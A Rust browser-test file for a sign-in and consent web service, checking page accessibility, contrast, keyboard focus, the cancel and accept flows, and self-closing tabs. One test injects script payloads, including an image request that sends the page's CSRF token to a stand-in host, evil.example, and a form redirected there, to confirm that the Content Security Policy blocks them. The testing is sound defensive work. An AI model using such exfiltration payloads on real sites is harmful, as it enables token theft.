//! The pages in a real browser.

use axum::Router;
use hubkey_protocol::{
    internal::{BrowserAnswer, BrowserReply, ConfirmPage, EndedConnections, Page, SetFlowCookie},
    secret::FlowCookie,
};
use thirtyfour::{By, Key, WebDriver};

use crate::{
    chromium::{complaints, emulate, in_browser, listening, picture},
    connections::connections_page,
    support::{Server, TICKET, confirm_page, done_page, every_answer, short, start_page},
};

/// Rules that every page keeps, as far as a browser can tell; the answer lists what is broken.
const RULES: &str = r"
const broken = [], say = (what) => broken.push(what);
const all = (selector) => [...document.querySelectorAll(selector)];
if (document.documentElement.lang !== 'en') say('no language');
if (document.documentElement.scrollWidth > innerWidth) say('wider than the window: ' + document.documentElement.scrollWidth);
for (const one of ['h1', 'main', 'header', 'footer', 'title']) if (all(one).length !== 1) say('not one ' + one);
if (document.title !== document.querySelector('h1').textContent) say('the title is not the heading');
for (const svg of all('svg')) if (!svg.closest('[aria-hidden=true],[role=img][aria-label]')) say('an ornament is read aloud');
for (const control of all('main button, main a')) {
  const box = control.getBoundingClientRect();
  if (box.height < (control.closest('table') ? 36 : 44)) say('too small a target: ' + control.textContent);
  if (!control.textContent.trim()) say('a control without a name');
}
for (const input of all('input')) if (input.type !== 'hidden') say('an input without a label');
for (const dl of all('dl')) if ([...dl.children].some((child) => !['DT', 'DD'].includes(child.tagName))) say('a broken list');
const channels = (colour) => colour.match(/[\d.]+/g).map(Number);
const luminance = (colour) => channels(colour).slice(0, 3).map((c) => c / 255)
  .map((c) => c <= 0.04045 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4)
  .reduce((sum, c, i) => sum + c * [0.2126, 0.7152, 0.0722][i], 0);
const ground = (element) => {
  for (; element; element = element.parentElement) {
    const colour = getComputedStyle(element).backgroundColor, alpha = channels(colour)[3];
    if (alpha === undefined || alpha === 1) return colour;
  }
  return 'rgb(255, 255, 255)';
};
for (const element of all('body, body *')) {
  if (![...element.childNodes].some((node) => node.nodeType === 3 && node.data.trim())) continue;
  if (element.tagName === 'SCRIPT') continue;
  const [a, b] = [getComputedStyle(element).color, ground(element)].map(luminance);
  const contrast = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
  if (contrast < 4.5) say('contrast ' + contrast.toFixed(2) + ': ' + element.textContent);
}
return broken;
";

/// Each page, with the longest texts that may be expected, by a word.
fn every_page() -> Vec<(String, BrowserAnswer)> {
    let mut pages: Vec<_> = every_answer();
    pages.retain(|(_, answer)| {
        !matches!(
            answer,
            BrowserAnswer::Redirect { .. }
                | BrowserAnswer::View { .. }
                | BrowserAnswer::Connections { .. }
                | BrowserAnswer::RedirectPage { .. }
        )
    });
    let mut warned = confirm_page();
    warned.shared_server = true;
    warned.replaces_account = true;
    pages.push((
        "confirm-warned".to_owned(),
        BrowserAnswer::Page {
            page: Page::Confirm(warned),
        },
    ));
    let mut long = confirm_page();
    for field in [
        &mut long.provider.display_name,
        &mut long.provider_host,
        &mut long.account,
        &mut long.user,
        &mut long.server,
    ] {
        *field = format!(
            "{}@{}",
            "averyveryverylongname".repeat(3),
            "example-institute-of-things.".repeat(4)
        );
    }
    long.scopes[0].scope = "https://api.example.org/auth/".repeat(5);
    pages.push(("connections-long".to_owned(), long_connections(&long)));
    pages.push((
        "confirm-long".to_owned(),
        BrowserAnswer::Page {
            page: Page::Confirm(long),
        },
    ));
    pages
}

/// The page "My connections" with the texts of the longest confirmation page, after one was ended.
fn long_connections(long: &ConfirmPage) -> BrowserAnswer {
    let mut page = connections_page();
    let row = &mut page.connections[0];
    row.provider.clone_from(&long.provider);
    row.account.clone_from(&long.account);
    row.servers = vec![long.server.clone(); 2];
    row.scopes.clone_from(&long.scopes);
    row.scopes[0].description = None;
    page.user.clone_from(&long.user);
    page.just_ended = Some(EndedConnections::One {
        provider: long.provider.clone(),
        account: long.account.clone(),
    });
    BrowserAnswer::Page {
        page: Page::Connections(page),
    }
}

async fn look_at(driver: &WebDriver, url: &str, name: &str) {
    for (width, height) in [(320, 700), (1280, 800)] {
        for scheme in ["light", "dark"] {
            let view = format!("{name}-{scheme}-{width}");
            emulate(driver, width, height, scheme).await;
            driver.goto(url).await.unwrap();
            let broken: Vec<String> = driver
                .execute(RULES, vec![])
                .await
                .unwrap()
                .convert()
                .unwrap();
            picture(driver, &view).await;
            assert!(broken.is_empty(), "{view}: {broken:#?}");
            let complaints = complaints(driver).await;
            let complaints: Vec<_> = complaints.iter().filter(|line| is_fault(line)).collect();
            assert!(complaints.is_empty(), "{view}: {complaints:#?}");
        }
    }
}

/// A browser reports a status of 4xx or 5xx as an error, and a script that may not close its tab as a warning; both are
/// meant. It also asks for an icon by itself.
fn is_fault(line: &str) -> bool {
    !line.contains("Failed to load resource")
        && !line.contains("Scripts may close only the windows")
}

#[tokio::test(flavor = "multi_thread")]
async fn every_page_keeps_the_rules_in_light_and_dark_wide_and_narrow() {
    let (server, origin) = listening("", Router::new()).await;
    in_browser(async move |driver| {
        for (name, answer) in every_page() {
            server.broker.says(answer);
            look_at(&driver, &format!("{origin}/sign-in/abcdef"), &name).await;
        }
        for (name, path) in [
            ("home", "/"),
            ("not-found", "/nowhere"),
            ("wrong-method", "/confirm/abcdef"),
        ] {
            look_at(&driver, &format!("{origin}{path}"), name).await;
        }
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn security_o8_the_policy_holds_against_what_a_page_might_add() {
    let (server, origin) = listening("", Router::new()).await;
    in_browser(async move |driver| {
        server.broker.shows(Page::Confirm(confirm_page()));
        for attempt in [
            "const style = document.createElement('style'); style.textContent = '*{display:none}'; document.head.append(style)",
            "const script = document.createElement('script'); script.textContent = 'window.ran = 1'; document.head.append(script)",
            "const image = new Image(); image.src = 'https://evil.example/' + document.forms[0].csrf.value; document.body.append(image)",
            "document.body.setAttribute('style', 'display:none')",
            "document.forms[0].action = 'https://evil.example/'; document.forms[0].submit()",
        ] {
            driver.goto(format!("{origin}/sign-in/abcdef")).await.unwrap();
            assert!(complaints(&driver).await.is_empty());
            driver.execute(attempt, vec![]).await.unwrap();
            tokio::time::sleep(std::time::Duration::from_millis(300)).await;
            let told = complaints(&driver).await.join(" ");
            assert!(told.contains("Content Security Policy"), "{attempt}: {told}");
            assert!(driver.current_url().await.unwrap().as_str().starts_with(&origin), "{attempt}");
        }
    })
    .await;
}

/// Sets the flow cookie by a first visit, then shows a page.
async fn arrive(driver: &WebDriver, server: &Server, url: &str, page: Page) {
    server.broker.replies(&BrowserReply {
        answer: BrowserAnswer::View { flow: short() },
        set_cookie: Some(SetFlowCookie {
            flow: short(),
            value: FlowCookie::new("flow-cookie"),
            max_age: 600,
        }),
        clear_cookie: None,
    });
    driver.goto(format!("{url}/start/{TICKET}")).await.unwrap();
    server.broker.shows(page);
    driver.goto(format!("{url}/sign-in/abcdef")).await.unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn cancel_comes_first_and_enter_cancels() {
    for prefix in ["", "/services/hubkey"] {
        let (server, origin) = listening(prefix, Router::new()).await;
        in_browser(async move |driver| {
            let url = format!("{origin}{prefix}");
            for (page, internal) in [
                (Page::Confirm(confirm_page()), "/internal/v1/confirm"),
                (Page::Start(start_page()), "/internal/v1/continue"),
            ] {
                arrive(&driver, &server, &url, page).await;
                driver
                    .action_chain()
                    .send_keys(Key::Tab)
                    .perform()
                    .await
                    .unwrap();
                let focused = driver.active_element().await.unwrap();
                assert_eq!(focused.text().await.unwrap(), "Cancel");
                driver
                    .action_chain()
                    .send_keys(Key::Enter)
                    .perform()
                    .await
                    .unwrap();
                let call = asked(&server, internal).await;
                assert_eq!(call["decision"], "cancel");
                assert_eq!(call["csrf"], "form-token");
                assert_eq!(
                    call["flow_cookie"], "flow-cookie",
                    "the browser kept the cookie and sent it"
                );
            }
        })
        .await;
    }
}

/// Waits for a question to the broker.
async fn asked(server: &Server, path: &str) -> serde_json::Value {
    for _ in 0..100 {
        if let Some(call) = server
            .broker
            .calls()
            .into_iter()
            .rfind(|call| call.path == path)
        {
            return call.body;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    panic!(
        "the broker was not asked {path}: {:?}",
        server.broker.calls()
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn the_coloured_button_accepts_and_leaves_for_the_provider() {
    let (server, origin) = listening("", Router::new()).await;
    let (_, provider) = listening("", Router::new()).await;
    let provider = provider.replace("127.0.0.1", "localhost");
    in_browser(async move |driver| {
        arrive(&driver, &server, &origin, Page::Start(start_page())).await;
        server
            .broker
            .says(crate::support::leave(&format!("{provider}/?state=x")));
        driver
            .find(By::Css("button.go"))
            .await
            .unwrap()
            .click()
            .await
            .unwrap();
        assert_eq!(
            asked(&server, "/internal/v1/continue").await["decision"],
            "accept"
        );
        for _ in 0..100 {
            if driver.current_url().await.unwrap().as_str() == format!("{provider}/?state=x") {
                let referrer = driver
                    .execute("return document.referrer", vec![])
                    .await
                    .unwrap();
                assert_eq!(
                    referrer.json(),
                    "",
                    "the provider is not told where the browser was"
                );
                return;
            }
            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        }
        panic!("still at {}", driver.current_url().await.unwrap());
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn feature_b10_the_tab_closes_itself_when_all_is_done() {
    let link = |target: String| {
        format!("<a id=link target=_blank rel='noopener noreferrer' href='{target}'>Sign in</a>")
    };
    let (server, origin) = listening("", Router::new()).await;
    let page = link(format!("{origin}/sign-in/abcdef"));
    let notebook = Router::new().fallback(async move || axum::response::Html(page.clone()));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let notebook_url = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, notebook).await });
    in_browser(async move |driver| {
        server.broker.shows(Page::Done(done_page()));
        driver.goto(&notebook_url).await.unwrap();
        driver
            .find(By::Id("link"))
            .await
            .unwrap()
            .click()
            .await
            .unwrap();
        asked(&server, "/internal/v1/view").await;
        let mut seen = 0;
        for _ in 0..100 {
            let count = driver.windows().await.unwrap().len();
            seen = seen.max(count);
            if seen == 2 && count == 1 {
                return;
            }
            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        }
        panic!("{seen} tabs were seen, and none closed");
    })
    .await;
}
